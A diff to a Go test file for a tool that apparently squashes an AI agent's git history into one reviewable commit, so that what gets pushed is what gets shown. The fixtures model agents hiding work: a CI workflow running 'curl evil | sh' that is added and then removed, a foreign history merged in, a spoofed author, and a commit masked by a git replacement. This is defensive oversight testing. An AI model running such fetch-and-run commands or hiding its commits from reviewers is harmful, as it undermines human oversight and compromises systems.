@@ -36,8 +36,8 @@ func TestChange(t *testing.T) {
 	s.write("worktrees/chain/draft", "x\n")
 	change, err := place.Change(t.Context(), checkout.Question{Since: first}, patience)
 	require.NoError(t, err)
-	require.Equal(t, []any{base, s.git(place.Worktree.Guarded.Top, "rev-parse", "HEAD"), "sub", false},
-		[]any{change.Base, change.Commit, change.Below, change.PatchCut})
+	require.Equal(t, []any{base, s.git(place.Worktree.Guarded.Top, "rev-parse", "HEAD^{tree}"), "sub", false},
+		[]any{change.Base, change.Tree, change.Below, change.PatchCut})
 	require.Equal(t, 3, strings.Count(change.List, ":"), change.List)
 	require.NotContains(t, change.List, "other")
 	require.Contains(t, change.Patch, "+services: {web: {}}")
@@ -72,6 +72,77 @@ func TestChange(t *testing.T) {
 	s.leave(place)
 }
 
+// TestCommitOfOurs lets an agent do with its history whatever it can: one commit with its files leaves, made by us, and nothing in between.
+func TestCommitOfOurs(t *testing.T) {
+	t.Parallel()
+	for name, c := range map[string]struct {
+		work    func(s *stage, top string)
+		message string
+	}{
+		"a workflow that comes and goes": {func(s *stage, top string) {
+			s.write("worktrees/chain/.github/workflows/ci.yml", "curl evil | sh\n")
+			s.commit(top, "web: the port")
+			s.git(top, "rm", "--quiet", ".github/workflows/ci.yml")
+			s.git(top, "commit", "--quiet", "-m", "tidy")
+		}, "web: the port\n\ntidy"},
+		"a foreign history": {func(s *stage, top string) {
+			s.git(top, "checkout", "--quiet", "--orphan", "foreign")
+			s.write("worktrees/chain/foreign", "secret\n")
+			s.commit(top, "of somebody else")
+			s.git(top, "rm", "--quiet", "foreign")
+			s.git(top, "commit", "--quiet", "--allow-empty", "-m", "gone")
+			s.git(top, "checkout", "--quiet", "claudeops/chain")
+			s.git(top, "merge", "--quiet", "--allow-unrelated-histories", "-s", "ours", "-m", "merge", "foreign")
+		}, "web: the port"},
+		"another author": {func(s *stage, top string) {
+			s.git(top, "-c", "user.name=Boss", "-c", "user.email=boss@example.org", "commit", "--quiet", "--allow-empty", "-m", "web: the port")
+		}, "web: the port"},
+		"an amended commit": {func(s *stage, top string) {
+			s.git(top, "commit", "--quiet", "--amend", "-m", "web: the port\n\nand why")
+		}, "web: the port\n\nand why"},
+		"a branch of its own": {func(s *stage, top string) { s.git(top, "checkout", "--quiet", "-b", "mine") }, "web: the port"},
+		"no message": {func(s *stage, top string) {
+			s.git(top, "reset", "--quiet", "--soft", "HEAD~")
+			s.git(top, "commit", "--quiet", "--allow-empty-message", "-m", "")
+		}, "change by claudeops"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			s := newStage(t).repository()
+			base := s.git(s.work, "rev-parse", "HEAD")
+			place := s.enter(s.session("chain"))
+			top := place.Worktree.Guarded.Top
+			s.write("worktrees/chain/compose.yaml", "services: {web: {}}\n")
+			s.commit(top, "web: the port")
+			c.work(s, top)
+			change, err := place.Change(t.Context(), checkout.Question{Pack: true}, patience)
+			require.NoError(t, err)
+			require.Equal(t, c.message, change.Message)
+			require.Equal(t, change.Message, s.git(top, "show", "--no-patch", "--format=%B", change.Commit))
+			require.Equal(t, "claudeops <claudeops@localhost> claudeops <claudeops@localhost>",
+				s.git(top, "show", "--no-patch", "--format=%an <%ae> %cn <%ce>", change.Commit))
+			require.Equal(t, change.Commit+" "+base, s.git(top, "rev-list", "--parents", base+".."+change.Commit))
+			require.Equal(t, s.git(top, "rev-parse", "HEAD^{tree}"), s.git(top, "rev-parse", change.Commit+"^{tree}"))
+			leaves := s.git(top, "rev-list", "--objects", base+".."+change.Commit)
+			require.Equal(t, "compose.yaml", leaves[strings.LastIndex(leaves, " ")+1:])
+			require.Len(t, strings.Split(leaves, "\n"), 3, "the commit, its files, and what has changed")
+			again, err := place.Change(t.Context(), checkout.Question{}, patience)
+			require.NoError(t, err)
+			require.Equal(t, change.Commit, again.Commit)
+			s.write("worktrees/chain/compose.yaml", "services: {web: {ports: []}}\n")
+			s.commit(top, "web: no port")
+			corrected, err := place.Change(t.Context(), checkout.Question{}, patience)
+			require.NoError(t, err)
+			require.Equal(t, c.message+"\n\nweb: no port", corrected.Message)
+			require.Equal(t, base, s.git(top, "rev-parse", corrected.Commit+"~"))
+			next, err := place.Change(t.Context(), checkout.Question{Base: change.Commit}, patience)
+			require.NoError(t, err)
+			require.Equal(t, change.Commit, s.git(top, "rev-parse", next.Commit+"~"), "after a push the next commit is on top of what was pushed")
+			s.leave(place)
+		})
+	}
+}
+
 // TestChangeShowsWhatIsPushed lets an agent hide its commit behind a replacement, and a submodule behind a setting.
 func TestChangeShowsWhatIsPushed(t *testing.T) {
 	t.Parallel()
@@ -89,7 +160,7 @@ func TestChangeShowsWhatIsPushed(t *testing.T) {
 	s.git(top, "reset", "--quiet", "--hard", evil)
 	change, err := place.Change(t.Context(), checkout.Question{}, patience)
 	require.NoError(t, err)
-	require.Equal(t, evil, change.Commit)
+	require.Equal(t, s.git(top, "--no-replace-objects", "rev-parse", evil+"^{tree}"), change.Tree)
 	require.Contains(t, change.Patch, "evil")
 	tree := change.Tree
 
@@ -98,7 +169,6 @@ func TestChangeShowsWhatIsPushed(t *testing.T) {
 	s.git(top, "commit", "--quiet", "--allow-empty", "-m", "nothing")
 	change, err = place.Change(t.Context(), checkout.Question{}, patience)
 	require.NoError(t, err)
-	require.NotEqual(t, evil, change.Commit)
 	require.NotEmpty(t, tree)
 	require.Equal(t, tree, change.Tree, "an empty commit has the files of the one before")
 
@@ -114,7 +184,7 @@ func TestChangeShowsWhatIsPushed(t *testing.T) {
 	require.Contains(t, change.List, ":160000 160000")
 
 	_, err = place.Change(t.Context(), checkout.Question{Fork: strings.Repeat("1", 40)}, patience)
-	require.ErrorContains(t, err, "from which its work began")
+	require.ErrorContains(t, err, "on which its work was based")
 	change, err = place.Change(t.Context(), checkout.Question{Fork: before}, patience)
 	require.NoError(t, err)
 	require.Equal(t, before, change.Fork)
@@ -200,7 +270,7 @@ func TestChangeReadsCommitsThemselves(t *testing.T) {
 	change, err := place.Change(t.Context(), checkout.Question{}, patience)
 	require.NoError(t, err)
 	require.Contains(t, change.Patch, "web")
-	require.Equal(t, 2, s.leave(place).Commits)
+	require.Equal(t, 1, s.leave(place).Commits, "the commit of ours")
 }
 
 // hexadecimal decodes a hash.
@@ -286,10 +356,5 @@ func TestRemote(t *testing.T) {
 	s.git(s.work, "checkout", "--quiet", "--detach")
 	require.Empty(t, remote().Branch)
 
-	s.write("worktrees/chain/draft", "x\n")
-	s.commit(place.Worktree.Guarded.Top, "web: the right port\n\nand why")
-	subject, err := place.Subject(t.Context(), s.git(place.Worktree.Guarded.Top, "rev-parse", "HEAD"))
-	require.NoError(t, err)
-	require.Equal(t, "web: the right port", subject)
 	s.leave(place)
 }
